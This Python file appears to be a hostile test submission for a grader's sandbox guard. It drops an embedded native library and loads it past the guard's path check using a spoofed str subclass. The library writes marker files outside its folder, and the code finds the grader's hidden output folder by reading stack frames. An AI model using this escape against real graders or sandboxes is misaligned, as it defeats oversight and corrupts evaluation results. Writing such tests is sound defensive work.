"""Hostile submission: runs its own native code, which writes outside its folder.

It writes the library below into its working folder and loads it as an extension module past
the guard's native-code check: its origin is a ``str`` subclass whose ``[1:]`` makes the
guard's realpath name a file in Python's own folder (see ``fspath_trick.py``). The
constructor opens files with libc's ``open``, which no audit hook sees:
``/tmp/torchlab-escape-native_write`` and ``torchlab-escape-native_write`` in the grader's
output folder (named in the guard policy, read from the worker's stack frames). The guard
must refuse to load the library (check the very path ``dlopen`` uses), native code must meet
a kernel-level jail with nothing writable but the worker's folder, and the score is 0.

The library (x86_64 Linux; ``gcc -Os -s -shared -fPIC -nostartfiles -fno-asynchronous-unwind-tables
-Wl,--build-id=none,-z,noseparate-code,-z,norelro``, then ``objcopy -R .comment``)::

    #include <stdlib.h>
    #include <fcntl.h>
    #include <unistd.h>
    static void mark(const char *path) {
        int fd = path ? open(path, O_WRONLY | O_CREAT | O_EXCL, 0644) : -1;
        if (fd >= 0) { write(fd, "written by native code\n", 23); close(fd); }
    }
    __attribute__((constructor)) static void run(void) {
        mark(getenv("MARK1"));
        mark(getenv("MARK2"));
    }
"""

import base64
import contextlib
import importlib.machinery
import importlib.util
import os
import sys
import zlib

LIBRARY = (
    "eNqtVk1oE0EUnt2tNa1ii7W0VYsBLXjatoFIL5X+oI20QlsRpD2km2RtVpLdsLutyUVF6CFIwbNn9SboRaQHiRTs1ZNH7U"
    "VI8OJFqZfGmd332pmxSxX6Qvbb97198/PNm9l9eG3muqooBE0jV8m+R8gYYO0Yz42QFnrtJB3Bs1zoLytpItKkwFheKx/v"
    "ErGmiIh5KuSVIa/cJeIjRcQYpM9983Ot5N8NugvGif//sdPwl601gj8ZwSsRPHFKpk3uu5ZvkmzB8UyybPqmvUoKViare4"
    "5+hUzN3JiYTCf0hJ4MlQt/2K5C+rh5rpy12tgzF4m4DqhfN+jd2R3icUmTXo5XOT7O8RrHX+b4Fo5vJu/R6TYHCvTacWGM"
    "3jE/z0KN7Sa1gQzzWdeNT4G/wHzWZaMW+PPMZ101XlP31nBt4zl9+v0HytS/UGatVu6vbla3UuvJKcpt9LDACxqofl1svK"
    "K4uDmXWh+dZPQD6qbWan4sVd2qv2HO+ugQC5jsnrZBY9rC92d3NtlKUP3jmUrcNnxr1YxnnZzZTm6Oz08PB9eEoCNq1ych"
    "6n6OiPr/3G06gZ6QiHvunbJfV8HeBL8d/EHAE7hOe/s8tJ0z+/uK2RIg0MH6MOsBHFJFvlcVx4ntt0n+bjMc/w6Mrwk+6v"
    "AD/DoQv6X4URueF7K9hPm8BfwI+BkF0r2857u+kSH6sr2i5w0vT/RcxfYqxRB9N4ysmq5nObbgpGnMNQsGexDuSgWf6L5Z"
    "plfXyRm+QXQzn77rGkWT6JZt+WnDdY1K0LZRtLK0PccPso7EWF38olrj9LC+EM8TsT5iUn43tKFK9YdY5upNOaBO+iGmSv"
    "WMOHjAecjbANQS5mP91KV9oEZgAmoTfaxPxHjE+NHG4fxSpf2whxH6IT8N+RPS/kJc4vJPHZA/y71LmT1VRZyNeK8h3pby"
    "t1UR84fovwhcAvyUJuKliHzELNyrUd8Lksn6F0EXTTo/MT8WkY9Ygblr0rmA3xf4HaFJeajfYxi/fJ7uwEtt5JD+Fem9iD"
    "YEB/yTQ/T/AwFD6s0="
)


class Sly(str):  # realpath reads a library in Python's own folder; dlopen, the real path
    def __getitem__(self, key):
        fake = sys.base_prefix.lstrip("/") + "/lib/python-native.so"
        return fake if key == slice(1, None) else str.__getitem__(self, key)


def _load(name):
    path = os.path.abspath(name + ".so")  # its own working folder: allowed
    with open(path, "wb") as f:
        f.write(zlib.decompress(base64.b64decode("".join(LIBRARY))))
    loader = importlib.machinery.ExtensionFileLoader(name, Sly(path))
    with contextlib.suppress(ImportError):  # dlopen ran the constructor; it has no PyInit_
        importlib.util.module_from_spec(importlib.util.spec_from_loader(name, loader))


_done: list[bool] = []


def _output_folder():
    frame = sys._getframe()
    while frame is not None:
        request = frame.f_locals.get("request")
        if isinstance(request, dict) and "guard" in request:
            hidden = [p for p in request["guard"]["deny_read"] if not p.startswith(sys.prefix)]
            return hidden[-1] if len(hidden) > 4 else None  # ..., the class, the output
        frame = frame.f_back
    return None


def arange(*args, **kwargs):
    if not _done:
        _done.append(True)
        os.environ["MARK1"] = "/tmp/torchlab-escape-native_write"
        if _output_folder():
            os.environ["MARK2"] = os.path.join(_output_folder(), "torchlab-escape-native_write")
        _load("native_write")
    raise NotImplementedError("arange: native code ran")
